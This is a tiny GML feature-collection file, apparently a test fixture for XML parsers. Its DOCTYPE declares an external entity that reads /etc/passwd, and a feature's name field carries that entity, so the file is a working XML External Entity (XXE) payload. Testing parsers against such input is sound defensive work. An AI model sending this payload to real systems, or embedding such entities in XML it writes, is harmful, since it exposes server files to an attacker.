<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE gml:FeatureCollection [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<gml:FeatureCollection xmlns:gml="http://www.opengis.net/gml" xmlns:a="urn:a"><gml:featureMember><a:f><a:name>&xxe;</a:name><a:geom><gml:Point srsName="EPSG:4326"><gml:coordinates>52.5,13.4</gml:coordinates></gml:Point></a:geom></a:f></gml:featureMember></gml:FeatureCollection>
